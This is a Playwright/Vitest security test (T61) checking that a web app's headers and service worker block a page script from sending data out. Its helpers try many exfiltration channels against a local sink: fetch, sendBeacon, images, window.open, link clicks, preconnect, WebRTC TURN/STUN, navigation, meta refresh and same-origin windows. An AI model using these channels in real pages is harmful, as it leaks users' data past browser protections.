import type { Page } from 'playwright-core'
import { afterEach, expect, test } from 'vitest'
import { headersFor } from '../../scripts/build/policy.ts'
import { openPhone } from '../journeys/built-app.ts'
import { installed } from '../journeys/installed.ts'
import { hostFiles } from '../journeys/static-host.ts'
import { openSink, type Sink } from './sink.ts'

const closing: (() => Promise<unknown>)[] = []
afterEach(async () => {
  for (const close of closing.splice(0).reverse()) await close()
})

interface Elsewhere {
  readonly url: string
  readonly udpPort: number
}

/** What a script in the page does to send something away while the page stays. */
async function tryToSend({ url, udpPort }: Elsewhere): Promise<void> {
  void fetch(`${url}fetch`, { mode: 'no-cors' }).catch(() => {})
  navigator.sendBeacon(`${url}beacon`, 'key')
  new Image().src = `${url}image`
  window.open(`${url}window`)
  const link = Object.assign(document.createElement('a'), { href: `${url}link`, target: '_blank' })
  const preconnect = Object.assign(document.createElement('link'), { rel: 'preconnect', href: url })
  document.body.append(link)
  document.head.append(preconnect)
  link.click()
  const turn = { urls: `turn:127.0.0.1:${udpPort}?transport=udp`, username: 'key', credential: 'x' }
  const connection = new RTCPeerConnection({ iceServers: [turn, { urls: `stun:127.0.0.1:${udpPort}` }] })
  connection.createDataChannel('out')
  await connection.setLocalDescription(await connection.createOffer())
  await new Promise((resolve) => {
    connection.onicegatheringstatechange = () => connection.iceGatheringState === 'complete' && resolve(null)
    setTimeout(resolve, 1_000)
  })
}

/** Ways in which the page itself goes there, each in a tab of its own. */
const departures: readonly ((to: Elsewhere) => void)[] = [
  ({ url }) => {
    location.href = `${url}navigation`
  },
  ({ url }) => {
    document.head.append(Object.assign(document.createElement('meta'), { httpEquiv: 'refresh', content: `0;url=${url}refresh` }))
  },
]

/** Documents of this host that a script may open to speak through. */
const documents = ['?x=/worker/', 'no-such-page', 'robots.txt', 'recordings/desk.jsonl', 'icon.svg', 'worker/none']

/** Opens windows of this host and sends from there, as often as they change. */
async function speakThrough({ url, paths }: { readonly url: string; readonly paths: readonly string[] }): Promise<void> {
  const opened = paths.map((path) => window.open(new URL(path, document.baseURI).href))
  for (let tries = 0; tries < 20; tries++) {
    for (const [at, one] of opened.entries())
      try {
        const { Image: Picture } = one as unknown as { Image: typeof Image }
        new Picture().src = `${url}picture?${paths[at]}`
        void one?.fetch(`${url}window?${paths[at]}`, { mode: 'no-cors' }).catch(() => {})
      } catch {
        // It was not opened, or is of another origin.
      }
    await new Promise((resolve) => setTimeout(resolve, 50))
  }
}

async function tryAll(page: Page, { url, udpPort }: Sink): Promise<void> {
  const script = page.workers()[0]?.url() ?? ''
  expect(script).toContain('/worker/session-')
  const { origin, pathname } = new URL(page.url())
  for (const depart of departures) {
    const tab = await page.context().newPage()
    await tab.goto(origin + pathname)
    await tab.evaluate(depart, { url, udpPort }).catch(() => {}) // it is on its way out
  }
  await page.evaluate(tryToSend, { url, udpPort })
  await page.evaluate(speakThrough, { url, paths: [...documents, script] })
}

test.each([
  ['that sends the headers, at the first visit', true],
  ['that sends none, once the service worker is there', false],
])('T61 a script in the page finds no way out, on a host %s', async (_, sends) => {
  const sink = await openSink()
  const host = await hostFiles('dist', '/', sends ? headersFor : undefined)
  const phone = await openPhone(host.url)
  closing.push(sink.close, host.close, phone.close)
  const { page, context } = phone
  if (sends) await context.addInitScript(() => void Reflect.deleteProperty(Navigator.prototype, 'serviceWorker'))
  else await installed(page)
  await page.reload()
  await page.getByRole('button', { name: 'Connect a model' }).waitFor()
  await expect.poll(() => page.workers().length).toBe(1)
  await tryAll(page, sink)
  // What was tried before has come by the time when this has.
  const last = await context.browser()!.newPage()
  closing.push(() => last.close())
  await last.goto(`${sink.url}last`)
  expect(sink.came.filter((path) => path !== '/favicon.ico')).toEqual(['tcp', '/last'])
})
